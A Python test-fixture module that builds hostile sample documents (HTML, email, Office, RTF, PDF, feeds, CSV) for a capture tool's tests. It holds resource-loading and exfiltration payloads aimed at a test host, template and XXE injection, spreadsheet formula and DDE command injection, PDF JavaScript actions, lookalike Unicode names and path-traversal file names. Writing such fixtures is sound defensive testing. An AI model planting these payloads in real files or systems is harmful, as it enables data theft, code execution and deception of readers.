"""Invented content that tries to reach a server or a file, to run, or to be taken for something else.

Each sample is made for an address, such as "127.0.0.1:4711", and for a file, such as "/tmp/x/poison.png".
"""

from collections.abc import Mapping
from email.message import EmailMessage
from html import escape
from pathlib import Path
from urllib.parse import quote

from tests.capture.formats.making import archive, docx, paragraph, rtf
from tests.capture.formats.making_msg import compound, message
from tests.capture.formats.making_pdf import Text, pdf

HEADLINE = "Harbour towns ask who pays"
PROSE = (
    "The ferry to Port Gansey now runs until the second week of December, and nobody has decided who pays for it. "
    "Three mayors wrote to the minister last week, and they ask for a single fund with clear rules."
)
_W = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def addresses(host: str, file: Path) -> list[str]:
    """Every way to name a place elsewhere."""
    share = host.replace(":", "@")
    return [
        f"http://{host}/a.png",
        f"//{host}/b.png",
        rf"\\{share}\share\c.png",
        rf"\\?\UNC\{share}\share\d.png",
        f"file://{host}/share/e.png",
        f"file:{file}",
        f"file://{file}",
        f"FILE:///{file}",
        str(file),
        quote(str(file)),
        f"http:{host}/f.png",
        f"ht\ntp://{host}/g.png",
        f"&#104;ttp://{host}/h.png",
        f"ftp://{host}/i.png",
        f"javascript:fetch('http://{host}/j')",
        f"data:text/html,<img src='http://{host}/k.png'>",
        f"view-source:http://{host}/l",
    ]


def elements(address: str) -> str:
    """Every element of HTML and SVG that loads something, with one address."""
    at = escape(address, quote=True)
    return (
        f'<img src="{at}"><img srcset="{at} 2x" loading=eager><picture><source srcset="{at}"></picture>'
        f'<link rel=stylesheet href="{at}"><link rel=icon href="{at}"><link rel=preload as=image href="{at}">'
        f'<style>@import "{at}"; @import url({at}); body{{background:url("{at}")}} @font-face{{font-family:x;'
        f"src:url({at})}} li{{list-style-image:url({at})}} p::before{{content:url({at})}}</style>"
        f'<p style="background-image:url(\'{at}\');font-family:x">styled</p><table background="{at}"><tr><td>cell'
        f'</table><body background="{at}"><svg><image href="{at}" xlink:href="{at}"/><use href="{at}#a"/>'
        f'<script href="{at}"/><foreignObject><img src="{at}"></foreignObject></svg><math href="{at}">'
        f'<iframe src="{at}" srcdoc="<img src={at}>"></iframe><frame src="{at}"><object data="{at}"></object>'
        f'<embed src="{at}"><applet code="{at}"></applet><video src="{at}" poster="{at}" autoplay></video>'
        f'<audio src="{at}" autoplay></audio><track src="{at}"><form action="{at}"><input type=image src="{at}">'
        f'<button formaction="{at}">go</button></form><script src="{at}"></script><a ping="{at}" href="{at}">link</a>'
        f'<img src=x onerror="fetch(\'{at}\')"><base href="{at}"><meta http-equiv=refresh content="0;url={at}">'
        f'<blockquote cite="{at}">said</blockquote><!--[if gte mso 9]><v:fill src="{at}"/><![endif]-->'
    )


def page(host: str, file: Path) -> str:
    """A page with an article, and between its paragraphs all that a page can load."""
    harm = "".join(map(elements, addresses(host, file)))
    return (
        f'<html><head><title>{HEADLINE}</title><meta property="og:image" content="http://{host}/og.png">{harm}</head>'
        f"<body><h1>{HEADLINE}</h1><p>By Maya Okafor</p><p>{PROSE}</p>{harm}<p>{PROSE}</p></body></html>"
    )


def markdown(host: str, file: Path) -> str:
    """Markdown that loads, includes and runs what it can, in the ways of every renderer it may come to."""
    parts = [
        f"![picture]({at})\n\n[![inner]({at})]({at})\n\n![r][{n}]\n\n[{n}]: <{at}>\n\n<{at}>\n\n[a link]({at} 'title')"
        for n, at in enumerate(addresses(host, file))
    ]
    return "\n\n".join([*parts, *(elements(at) for at in addresses(host, file)[:8]), *programs(host, file)])


def programs(host: str, file: Path) -> list[str]:
    """What makes the programs that set reports do something, were it read as theirs."""
    return [
        f'#image("{file}") #read("{file}") #include "{file}" #import "@preview/evil:0.1.0" #link("file://{file}")[x]',
        f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {{% include '{file}' %}} {{{{ 7*7 }}}}",
        f'{{"data": {{"url": "http://{host}/data.json"}}, "mark": {{"type": "image", "url": "{file}"}}}}',
        f'=HYPERLINK("http://{host}/x","y")',
        f'=WEBSERVICE("http://{host}/x")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f'+IMPORTXML("http://{host}/x","//a")',
        f"\\input{{{file}}} \\write18{{curl http://{host}/}}",
        f"]]><!ENTITY x SYSTEM 'file://{file}'>&x;",
        "\x1b]0;title\x07\x1b[2J\x1b[31mred\x9b31m\x1b]8;;http://evil.example\x1b\\link",
    ]


# Files


def files(host: str, file: Path) -> Mapping[str, bytes]:
    """Files of every format that name places elsewhere, by their names."""
    html = page(host, file)
    return {
        "page.html": html.encode(),
        "page.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><text>{PROSE}</text>{elements(str(file))}</svg>'.encode(),
        "mail.eml": _mail(host, html),
        "mail.msg": compound(message({0x0037: HEADLINE, 0x1000: PROSE, 0x1013: html})),
        "page.mht": _mail(host, html).replace(b"multipart/mixed", b"multipart/related"),
        "word.docx": _word(host, file),
        "sheet.xlsx": _sheet(host, file),
        "text.rtf": _rich_text(host, file),
        "pages.pdf": _pages(host, file),
        "feed.xml": _feed(host, html),
        "entities.xml": f'<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://{host}/a.dtd"> %a; <!ENTITY b SYSTEM '
        f'"file://{file}">]><rss><channel><title>&b;</title></channel></rss>'.encode(),
        "text.md": f"# {HEADLINE}\n\n{PROSE}\n\n{markdown(host, file)}".encode("utf-8", "surrogatepass"),
        "sheet.csv": _rows(host, file).encode(),
        "said.vtt": f"WEBVTT\n\nSTYLE\n::cue{{background:url(http://{host}/v)}}\n\n00:01.000 --> 00:02.000\n{PROSE}".encode(),
    }


def _mail(host: str, html: str) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Maya <maya@news.example>", "us@example.org", HEADLINE
    mail["Disposition-Notification-To"], mail["List-Unsubscribe"] = "maya@news.example", f"<http://{host}/out>"
    mail.set_content(PROSE)
    mail.add_alternative(html, subtype="html")
    mail.add_attachment(
        b"", maintype="message", subtype="external-body", params={"access-type": "URL", "URL": f"http://{host}/body"}
    )
    return mail.as_bytes()


def _word(host: str, file: Path) -> bytes:
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" '
        f'Type="{_W}/attachedTemplate" Target="http://{host}/t.dotm" TargetMode="External"/></Relationships>'
    )
    fields = (
        f'<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://{host}/p.png&quot; \\d"><w:r><w:t>x</w:t></w:r>'
        f'</w:fldSimple><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>y</w:t></w:r></w:fldSimple>'
        f'<w:fldSimple w:instr="INCLUDETEXT &quot;{file}&quot;"><w:r><w:t>z</w:t></w:r></w:fldSimple>'
    )
    body = paragraph(HEADLINE, "T") + paragraph(PROSE) + paragraph(inside=fields)
    made = docx(body, {"a": f"http://{host}/a", "b": f"file://{file}"})
    return _with_member(made, "word/_rels/settings.xml.rels", relations.encode())


def _with_member(package: bytes, name: str, data: bytes) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(package)) as packed:
        return archive({**{one: packed.read(one) for one in packed.namelist()}, name: data})


def _sheet(host: str, file: Path) -> bytes:
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["Date", "Headline", "Outlet", "URL"])
    for number, harm in enumerate([*addresses(host, file), *programs(host, file)], 2):
        text = "".join(letter for letter in harm if letter >= " ")
        sheet.append(["2026-11-17", f"{HEADLINE} {number}", "Harbour Gazette", f"https://news.example/{number}"])
        sheet.cell(number, 3).value = text
        sheet.cell(number, 2).hyperlink = text
    out = io.BytesIO()
    book.save(out)
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return _with_member(out.getvalue(), "xl/externalLinks/externalLink1.xml", link.encode())


def _rows(host: str, file: Path) -> str:
    rows = [
        '2026-11-17,"{0}","{0}",Maya Okafor,https://news.example/{1}'.format(harm.replace('"', '""'), number)
        for number, harm in enumerate([*addresses(host, file), *programs(host, file)])
    ]
    return "\n".join(["Date,Headline,Outlet,Author,URL", *rows])


def _rich_text(host: str, file: Path) -> bytes:
    body = (
        rf"{{\*\template http://{host}/t.dot}}\pard {HEADLINE}\par {PROSE}\par {{\field{{\*\fldinst INCLUDEPICTURE "
        rf'"http://{host}/p.png" \\d}}{{\fldrslt x}}}}{{\object\objautlink{{\*\objclass Package}}{{\*\objdata 00}}}}\par'
    )
    return rtf(body)


def _pages(host: str, file: Path) -> bytes:
    made = pdf([[Text(HEADLINE, 72, 700), Text(PROSE[:100], 72, 660)]], link=f"http://{host}/a")
    actions = (
        f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://{host}/js'\\)) >> /AA << /O << /S /URI /URI "
        f"(http://{host}/uri) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >> "
        f"/AcroForm << /XFA (http://{host}/xfa) >> /Launch << /S /Launch /F ({file}) >>"
    )
    return made.replace(b"/Type /Catalog", b"/Type /Catalog " + actions.encode(), 1)


def _feed(host: str, html: str) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="http://{host}/s.xsl"?><rss version="2.0"><channel><title>x'
        f"</title><image><url>http://{host}/logo.png</url></image><item><title>{HEADLINE}</title><link>"
        f"http://{host}/item</link><enclosure url='http://{host}/e.mp3' type='audio/mpeg'/><description>"
        f"{escape(html)}</description></item></channel></rss>"
    ).encode()


# Names

LOOKALIKES = [
    "Ha\u200brbour",
    "Harbour\u202e",
    "\u2066Harbour\u2069",
    "Har\u00adbour",
    "Har\u034fbour",
    "Harbour\u200d",
    "Har\u200cbour",
    "H\ufe0farbour",
    "Harbour\U000e0041\U000e0062",
    "Harbour\u3164",
    "Har\ufeffbour",
    "Harbour\x00",
    "\u200fHarbour\u200e",
    "Har\u2063bour",
    " Harbour\r\n",
    "Harbour\u061c",
]
"""All of them look like "Harbour"."""

TOWERS = ["a" + "\u0301\u0323" * 200_000, "x" + "\u20dd" * 300_000, "é" + "\u0489\u0300" * 100_000]
"""Marks piled on one letter, which take the square of their number to put in order."""

FILE_NAMES = [
    "../../evil.txt",
    "..\\..\\evil.txt",
    "/etc/passwd",
    "C:\\Windows\\evil.txt",
    "~/evil.txt",
    "\\\\host\\share\\evil.txt",
    "CON",
    "nul.txt",
    "COM1.",
    "lpt9 .pdf",
    "CONIN$",
    "a:b.txt",
    "evil.txt::$DATA",
    "report\u202efdp.exe",
    "name. . .",
    "  ",
    "",
    "..",
    "a\x00b.txt",
    "a\nb.txt",
    "x" * 5000 + ".pdf",
    "\U0001f980" * 300 + ".pdf",
    "a\ud800b.pdf",
    "-rf",
    "%2e%2e%2fevil",
    "aux.tar.gz",
    "COM\u00b9.txt",
]
"""What must not become the name of a file as it is."""
